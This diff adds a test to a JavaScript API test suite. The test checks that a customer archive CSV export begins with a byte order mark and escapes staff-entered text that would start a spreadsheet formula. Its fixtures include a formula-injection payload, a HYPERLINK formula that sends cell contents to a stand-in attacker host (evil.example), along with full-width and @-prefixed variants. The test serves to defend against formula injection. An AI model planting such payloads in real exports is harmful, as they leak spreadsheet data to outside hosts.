@@ -173,4 +173,18 @@ describe('§0 customer archive', () => {
     expect((await get('properties/archive-summary?year=1999', 'S-MG1')).status).toBe(400);
     expect((await get('properties/archive-summary', 'S-EN1')).status).toBe(403);
   });
+
+  it('§0: the summary CSV opens in a spreadsheet (UTF-8 byte order mark) and shows text staff typed that would start a formula as text', async () => {
+    const year = new Date().getUTCFullYear();
+    const [household] = await stack.orm.em.fork().find(Household, { propertyId: stack.seed.propertyId }, { orderBy: { id: 'desc' }, limit: 1 });
+    await send('patch', `households/${household.id}`, 'S-FD1', { occupation: '=HYPERLINK("http://evil.example/?"&A1,"点击")', pets: ['@SUM(1+1)', '＋龟', '-鹦鹉'] }).expect(200);
+    const csv = (await get(`properties/archive-summary.csv?year=${year}`, 'S-SV1').expect(200)).text;
+    expect(csv.startsWith('\ufeffsection,key,count\r\n')).toBe(true);
+    const lines = csv.split('\r\n');
+    expect(lines).toContain(`occupations,"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")",1`);
+    expect(lines).toContain("pets,'@SUM(1+1),1");
+    expect(lines).toContain("pets,'＋龟,1");
+    expect(lines).toContain("pets,'-鹦鹉,1");
+    expect(lines.filter((line) => /^[^,]*,[=+\-@＝＋－＠]/.test(line))).toEqual([]);
+  });
 });
